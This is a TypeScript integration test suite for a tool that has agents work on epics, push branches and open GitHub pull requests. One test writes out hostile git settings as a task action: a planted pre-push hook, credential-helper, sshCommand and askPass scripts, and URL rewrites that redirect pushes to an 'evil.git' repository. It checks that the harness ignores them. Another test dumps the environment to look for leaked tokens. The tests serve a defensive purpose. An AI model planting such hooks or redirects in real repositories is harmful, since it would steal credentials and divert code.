import { existsSync } from 'node:fs';
import { chmod, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { recoverWorktrees } from '../../client/worktrees/recover';
import { listEvents } from '../../db/events/events';
import { findProject } from '../../db/project/projects';
import { setWorktreeStatus } from '../../db/worktree/worktree-status';
import { listWorktrees } from '../../db/worktree/worktrees';
import type { Plan } from '../../domain/plan/plan';
import { containsCommitsOf } from '../../domain/scheduler';
import { cli, endpointsOf } from '../client/captured-cli';
import { createGh } from '../../hosting/gh';
import { git, newRepository, removeTemporaryFolders, write } from '../support/git-repository';
import { hostingOf, type Hosting } from '../support/hosting';
import { planOf } from '../support/plans';
import { projectName, startSystem, type System } from '../support/system';

let system: System;
let hosting: Hosting;
let path: string;
let project: string;

beforeEach(async () => {
  ({ path } = await newRepository());
  hosting = await hostingOf(path);
  system = await startSystem({ environment: hosting.environment });
  project = projectName();
});
afterEach(() => system.close());
afterAll(removeTemporaryFolders);

const options = () => ({ project, parallel: true, pullRequests: true, maxAttempts: 1 }) as const;
const run = () => system.run(options());
const pulls = async () => (await hosting.state()).pulls;
const idOf = async () => (await findProject(system.db, project))!.id;
const worktrees = async () => listWorktrees(system.db, await idOf());
const statuses = async () => (await worktrees()).map(({ status }) => status);
const eventsOf = async (type: string) => {
  const text =
    'select epic_number as epic, data from yokeflow.events where type = $1 order by session_id, seq';
  return (await system.db.query<{ epic: number; data: Record<string, unknown> }>(text, [type])).rows;
};
/** What `git pull` does, which this machine has no ssh for. */
const pull = () => git(path, 'pull', '--quiet', '--ff-only', hosting.remote, 'main');

const twoEpics = (extra: Partial<Plan> = {}): Plan =>
  planOf(
    project,
    [
      { id: 1, epic: 1, action: 'echo one > one.txt' },
      { id: 2, epic: 2, action: 'echo two > two.txt', after: [1] },
    ],
    extra,
  );
const oneEpic = (): Plan => planOf(project, [{ id: 1, epic: 1, action: 'echo one > one.txt' }]);

test('each epic is pushed as it is, and has one pull request that says what is in it; main stays', async () => {
  await system.import(twoEpics({ verify: 'test -e one.txt' }), path);
  const start = await git(path, 'rev-parse', 'main');
  const ended = await run();
  expect(ended).toMatchObject({
    outcome: 'complete',
    result: { status: 'complete', tasks: { complete: 2 } },
  });
  const [one, two] = await pulls();
  const url = 'https://git.example.test/owner/app/pull/';
  expect(ended.result!.epics).toEqual([
    { epic: 1, status: 'proposed', pullRequest: { number: 11, url: `${url}11` } },
    { epic: 2, status: 'proposed', pullRequest: { number: 12, url: `${url}12` } },
  ]);
  expect(one).toMatchObject({ title: 'Part 1', headRefName: 'epic-1-part-1', baseRefName: 'main' });
  expect(one!.body).toContain('- T1: Task 1');
  expect(one!.body).toContain(`Merged with main at ${start.slice(0, 10)}, this passed: \`test -e one.txt\``);
  expect(one!.body).not.toContain('Contains');
  expect(two!.body).toContain('Contains #11: merge that first.');
  expect(await git(path, 'rev-parse', 'main')).toBe(start);
  expect(await git(hosting.remote, 'rev-parse', 'main')).toBe(start);
  for (const branch of ['epic-1-part-1', 'epic-2-part-2'])
    expect(await git(hosting.remote, 'rev-parse', branch)).toBe(await git(path, 'rev-parse', branch));
  expect(await statuses()).toEqual(['proposed', 'proposed']);
  expect((await eventsOf('epic_proposed')).map(({ epic, data }) => [epic, data.number])).toEqual([
    [1, 11],
    [2, 12],
  ]);
  expect(await eventsOf('epic_merged')).toEqual([]);

  const said = async (...words: string[]) =>
    (await cli([...words, '--project', project], endpointsOf(system.databaseUrl))).stdout;
  expect(await said('status')).toContain(`Epic 1 Part 1  pull request #11: ${url}11`);
  expect(await said('status')).not.toMatch(/landed|merged as/);
  expect(await said('worktrees', 'list')).toMatch(/epic-1-part-1 {2}proposed, clean/);
  expect(await said('worktrees', 'list')).toContain(`  pull request #12: ${url}12`);
  expect(await said('show', 'T2')).toContain(`Landed  not on main yet, pull request #12: ${url}12`);
  expect(await said('events')).toContain('Epic 1 Part 1: trying the merge with the base branch');
  expect(await said('events')).toContain(`Epic 1 Part 1: pull request #11: ${url}11`);

  const again = await run();
  expect(again).toMatchObject({ outcome: 'complete', result: { status: 'complete' } });
  expect(again.result!.notes).toEqual([`nothing to do: 2 pull requests not merged yet: ${url}11, ${url}12`]);
  expect(await pulls()).toHaveLength(2);
});

test.each([
  ['before it has opened', false],
  ['after it has opened', true],
])('gh fails %s the pull request: there is one in the end', async (_when, after) => {
  await system.import(twoEpics(), path);
  const says = 'error connecting to api.github.com';
  await hosting.change((state) => (state.trouble = { command: 'pr create', times: 2, says, after }));
  expect(await run()).toMatchObject({ outcome: 'complete' });
  expect((await pulls()).map(({ headRefName }) => headRefName)).toEqual(['epic-1-part-1', 'epic-2-part-2']);
  expect((await hosting.state()).trouble!.times).toBe(0);
});

test('one that a gh without a worker opens meanwhile is taken for ours, as it is', async () => {
  await system.import(oneEpic(), path);
  const says = 'a pull request for branch "epic-1-part-1" into branch "main" already exists:';
  await hosting.change((state) => (state.trouble = { command: 'pr create', times: 1, says, after: true }));
  const { outcome, result } = await run();
  expect(result!.epics).toMatchObject([{ status: 'proposed', pullRequest: { number: 11 } }]);
  expect(outcome).toBe('complete');
  expect(await pulls()).toHaveLength(1);
});

test('a push that a git without a worker makes meanwhile is no reason against ours', async () => {
  await system.import(oneEpic(), path);
  const hook = join(hosting.remote, 'hooks', 'pre-receive');
  await mkdir(dirname(hook), { recursive: true });
  await writeFile(
    hook,
    '#!/bin/sh\n[ ! -e once ] || exit 0\ntouch once\nuntil [ -e pushed ]; do sleep 0.1; done\n',
    { mode: 0o755 },
  );
  const ended = run();
  while (!existsSync(join(hosting.remote, 'once'))) await new Promise((resolve) => setTimeout(resolve, 20));
  await git(path, 'push', '--quiet', hosting.remote, 'epic-1-part-1');
  await writeFile(join(hosting.remote, 'pushed'), '');
  expect(await ended).toMatchObject({ outcome: 'complete', result: { epics: [{ status: 'proposed' }] } });
  expect(await pulls()).toHaveLength(1);
});

test('merged there by a merge commit and pulled: it has landed, and its worktree goes', async () => {
  await system.import(oneEpic(), path);
  await run();
  await hosting.merge(11, 'merge');
  await pull();
  expect(await run()).toMatchObject({ outcome: 'complete' });
  expect(await statuses()).toEqual(['removed']);
  expect(await git(path, 'branch', '--list', 'epic-*')).toBe('');
});

test.each([true, false])(
  'squashed there and pulled: it has landed by that commit (with the option: %s)',
  async (pullRequests) => {
    await system.import(twoEpics(), path);
    await run();
    const by = await hosting.merge(11, 'squash');
    await pull();
    await system.run({ project, parallel: true, epics: [1], ...(pullRequests ? { pullRequests } : {}) });
    const [one, two] = await worktrees();
    expect(one).toMatchObject({ status: 'removed', mergeCommit: by });
    expect(two).toMatchObject({ status: 'proposed' });
    expect(await git(path, 'branch', '--list', 'epic-1-*')).toBe('');
    expect(await git(path, 'rev-parse', 'main')).toBe(by);
    expect((await eventsOf('epic_merged')).map(({ epic, data }) => [epic, data.commit])).toEqual([[1, by]]);

    // The other one contains its commits: also that is proven.
    const second = await hosting.merge(12, 'squash');
    await pull();
    expect(await run()).toMatchObject({ outcome: 'complete' });
    expect(await statuses()).toEqual(['removed', 'removed']);
    expect(await git(path, 'rev-parse', 'main')).toBe(second);
    expect(await run()).toMatchObject({
      outcome: 'complete',
      result: { notes: ['nothing to do: everything has landed'] },
    });
  },
);

test('merged there and not pulled: it says so, and lands once main has it', async () => {
  await system.import(oneEpic(), path);
  await run();
  await hosting.merge(11, 'squash');
  const ended = await run();
  expect(ended).toMatchObject({ outcome: 'SessionIncomplete' });
  expect(ended.result!.epics[0]).toMatchObject({
    status: 'blocked',
    reason: `pull request #11 (https://git.example.test/owner/app/pull/11) is merged, and main here lacks that: git -C ${path} pull`,
  });
  await pull();
  expect(await run()).toMatchObject({ outcome: 'complete' });
  expect(await statuses()).toEqual(['removed']);
  expect(await pulls()).toHaveLength(1);
});

test('merged with a commit of a reviewer on top: what was pushed is in it; without it: a person looks', async () => {
  await system.import(oneEpic(), path);
  await run();
  const review = await git(
    hosting.remote,
    'commit-tree',
    'epic-1-part-1^{tree}',
    '-p',
    'epic-1-part-1',
    '-m',
    'Review',
  );
  await git(hosting.remote, 'update-ref', 'refs/heads/epic-1-part-1', review);
  await hosting.merge(11, 'squash');
  const pushed = (await worktrees())[0]!.pullRequest!.commit;
  await hosting.change(({ pulls: [one] }) => (one!.commits = [{ oid: review }]));
  await pull();
  const ended = await run();
  expect(ended.result!.epics[0]).toMatchObject({ status: 'blocked' });
  expect(ended.result!.epics[0]!.reason).toContain('was merged without the commit that was pushed for it');
  await hosting.change(({ pulls: [one] }) => (one!.commits = [{ oid: pushed }, { oid: review }]));
  expect(await run()).toMatchObject({ outcome: 'complete' });
  expect(await statuses()).toEqual(['removed']);
});

test('closed there: nothing is opened behind their back; a run without the option merges it here', async () => {
  await system.import(oneEpic(), path);
  await run();
  await hosting.close(11);
  const ended = await run();
  expect(ended).toMatchObject({ outcome: 'SessionIncomplete' });
  expect(ended.result!.epics[0]!.reason).toContain('was closed and not merged: gh pr reopen https://');
  expect((await eventsOf('attention_needed')).map(({ epic }) => epic)).toEqual([1]);
  expect(await pulls()).toHaveLength(1);

  expect(await system.run({ project, parallel: true })).toMatchObject({ outcome: 'complete' });
  expect(await git(path, 'show', 'main:one.txt')).toBe('one');
  expect(await statuses()).toEqual(['removed']);
});

test('new work in an epic goes to the pull request that is open', async () => {
  await system.import(oneEpic(), path);
  await run();
  const more = [
    { id: 1, epic: 1, action: 'echo one > one.txt' },
    { id: 2, epic: 1, action: 'echo more > more.txt' },
  ];
  await system.import(planOf(project, more), path);
  expect(await run()).toMatchObject({ outcome: 'complete', result: { tasks: { complete: 2 } } });
  expect(await pulls()).toHaveLength(1);
  expect(await git(hosting.remote, 'show', 'epic-1-part-1:more.txt')).toBe('more');
  expect((await eventsOf('epic_proposed')).map(({ data }) => data.number)).toEqual([11, 11]);
});

test('what others pushed to the branch is not overwritten', async () => {
  await system.import(oneEpic(), path);
  const theirs = await git(hosting.remote, 'commit-tree', 'main^{tree}', '-p', 'main', '-m', 'Mine');
  await git(hosting.remote, 'update-ref', 'refs/heads/epic-1-part-1', theirs);
  const ended = await run();
  expect(ended).toMatchObject({ outcome: 'SessionIncomplete' });
  const [{ path: worktree } = { path: '' }] = await worktrees();
  expect(ended.result!.epics[0]).toMatchObject({
    status: 'blocked',
    reason: `epic-1-part-1 of ${hosting.url} has commits that are not here, and nothing is pushed over them: git -C ${worktree} pull --no-rebase ${hosting.url} epic-1-part-1`,
  });
  expect(await git(hosting.remote, 'rev-parse', 'epic-1-part-1')).toBe(theirs);
  await git(worktree, 'pull', '--quiet', '--no-rebase', '--no-edit', hosting.remote, 'epic-1-part-1');
  expect(await run()).toMatchObject({ outcome: 'complete' });
  expect(await pulls()).toHaveLength(1);
});

test('a conflict with main is settled before anything is proposed', async () => {
  const meanwhile = `cd ${path} && echo main > a.txt && git commit --quiet --all -m meanwhile`;
  await system.import(planOf(project, [{ id: 1, epic: 1, action: `echo epic > a.txt; ${meanwhile}` }]), path);
  const ended = await system.run({ ...options(), onConflict: 'fail' });
  expect(ended.result!.epics[0]).toMatchObject({ status: 'conflict' });
  expect(await pulls()).toEqual([]);
  const [{ path: worktree } = { path: '' }] = await worktrees();
  await write(worktree, { 'a.txt': 'both\n' });
  await git(worktree, 'commit', '--quiet', '--all', '--no-edit');
  expect(await run()).toMatchObject({ outcome: 'complete' });
  expect(await git(hosting.remote, 'show', 'epic-1-part-1:a.txt')).toBe('both');
});

test('nothing that an agent leaves in the repository runs with a push, or leads it elsewhere', async () => {
  const folder = dirname(path);
  const evil = join(folder, 'evil.git');
  await git(folder, 'init', '--quiet', '--bare', evil);
  const hook = join(folder, 'planted.sh');
  await writeFile(hook, `#!/bin/sh\necho "$0 $*" >> ${folder}/planted\n`);
  await chmod(hook, 0o755);
  const plant = [
    'echo one > one.txt',
    `cp ${hook} ${path}/.git/hooks/pre-push`,
    `git config core.hooksPath ${path}/.git/hooks`,
    `git config core.sshCommand ${hook}`,
    `git config credential.helper '!${hook}'`,
    `git config core.askPass ${hook}`,
    `git config url.${evil}.insteadOf ${hosting.url}`,
    `git config url.${evil}.pushInsteadOf git@`,
    `git config remote.origin.url ${evil}`,
    `git config remote.origin.receivepack ${hook}`,
    'git config push.recurseSubmodules check',
  ];
  await system.import(planOf(project, [{ id: 1, epic: 1, action: plant.join('\n') }]), path);
  expect(await run()).toMatchObject({ outcome: 'complete' });
  expect(await readFile(join(folder, 'planted'), 'utf8').catch(() => 'nothing')).toBe('nothing');
  expect(await git(evil, 'for-each-ref')).toBe('');
  expect(await git(hosting.remote, 'show', 'epic-1-part-1:one.txt')).toBe('one');

  // The next session does not begin with such an address, either.
  const ended = await run();
  expect(ended).toMatchObject({ outcome: 'PullRequestsUnavailable' });
  expect(ended.message).toContain(`is ${evil}, and was ${hosting.url} when the plan was imported`);
});

test('agents get no token', async () => {
  await system.close();
  const environment = { ...hosting.environment, GH_TOKEN: 'ghp-secret-secret', GITHUB_TOKEN: 'other-secret' };
  system = await startSystem({ environment });
  const action = 'env > env.txt';
  await system.import(planOf(project, [{ id: 1, epic: 1, action }]), path);
  expect(await run()).toMatchObject({ outcome: 'complete' });
  expect(await git(hosting.remote, 'show', 'epic-1-part-1:env.txt')).not.toMatch(/secret|GH_|GITHUB/);
});

test('a session that could open no pull request does not begin', async () => {
  await system.import(oneEpic(), path);
  await hosting.change((state) => (state.login = false));
  expect(await run()).toMatchObject({
    outcome: 'PullRequestsUnavailable',
    message: expect.stringMatching(/gh auth status: You are not logged into.*gh auth login/),
  });
  await rm(join(dirname(dirname(hosting.remote)), 'bin', 'gh'));
  await system.close();
  system = await startSystem({ environment: { PATH: '/nonexistent' } });
  await system.import(oneEpic(), path);
  expect(await run()).toMatchObject({
    outcome: 'PullRequestsUnavailable',
    message: expect.stringContaining('gh is not installed where the worker runs: see https://cli.github.com'),
  });
  await git(path, 'remote', 'remove', 'origin');
  await system.import(oneEpic(), path);
  expect(await run()).toMatchObject({
    outcome: 'PullRequestsUnavailable',
    message: expect.stringContaining(`git -C ${path} remote add origin URL`),
  });
  const { rows } = await system.db.query('select from yokeflow.sessions');
  expect(rows).toEqual([]);
});

test('a login that is gone meanwhile holds the epic back, with what to type', async () => {
  await system.import(planOf(project, [{ id: 1, epic: 1, action: 'echo one > one.txt' }]), path);
  const says = 'HTTP 401: Bad credentials (https://api.github.com/graphql)';
  await hosting.change((state) => (state.trouble = { command: 'pr list', times: 1, says }));
  const ended = await run();
  expect(ended.result!.epics[0]).toMatchObject({
    status: 'blocked',
    reason: `gh pr list: ${says}; log in: gh auth login`,
  });
  const deny = join(dirname(dirname(hosting.remote)), 'deny');
  await writeFile(deny, '');
  const denied = await run();
  expect(denied.result!.epics[0]!.reason).toMatch(
    /^git push of epic-1-part-1 to git@git.example.test:owner\/app.git: .*Permission denied \(publickey\).*ssh-add/,
  );
  await rm(deny);
  expect(await run()).toMatchObject({ outcome: 'complete' });
});

test('worktrees recover: what was merged goes, what is open stays, what waits for a person is said', async () => {
  await system.import(
    planOf(
      project,
      [1, 2, 3, 4].map((id) => ({ id, epic: id, action: `echo ${id} > ${id}.txt` })),
    ),
    path,
  );
  const { result } = await run();
  const numberOf = async (epic: number) =>
    (await pulls()).find(({ title }) => title === `Part ${epic}`)!.number;
  await hosting.merge(await numberOf(1), 'squash');
  await hosting.merge(await numberOf(4), 'merge');
  await pull();
  await hosting.close(await numberOf(3));
  const [second] = (await worktrees()).filter(({ epic }) => epic === 2);
  const waits = `${containsCommitsOf('epic-1')}which waits`;
  await setWorktreeStatus(system.db, { worktreeId: second!.id, status: 'blocked', blockedReason: waits });
  const found = (await findProject(system.db, project))!;
  const recovery = await recoverWorktrees(system.db, found, {
    gh: createGh(hosting.environment),
    signal: new AbortController().signal,
  });
  expect(recovery.cleaned).toEqual([1, 4].map((id) => join(path, '.worktrees', `epic-${id}-part-${id}`)));
  expect(recovery.problems).toEqual([
    expect.stringMatching(/epic-3-part-3: pull request #1\d .* was closed and not merged/),
  ]);
  expect(await statuses()).toEqual(['removed', 'active', 'proposed', 'removed']);
  const landed = (await listEvents(system.db, { sessionId: result!.sessionId })).filter(
    ({ type }) => type === 'epic_merged',
  );
  const commits = (await git(path, 'rev-list', '--first-parent', '--reverse', 'main')).split('\n').slice(1);
  expect(landed.map(({ epic, data }) => [epic, data.commit])).toEqual([
    [1, commits[0]],
    [4, commits[1]],
  ]);
});
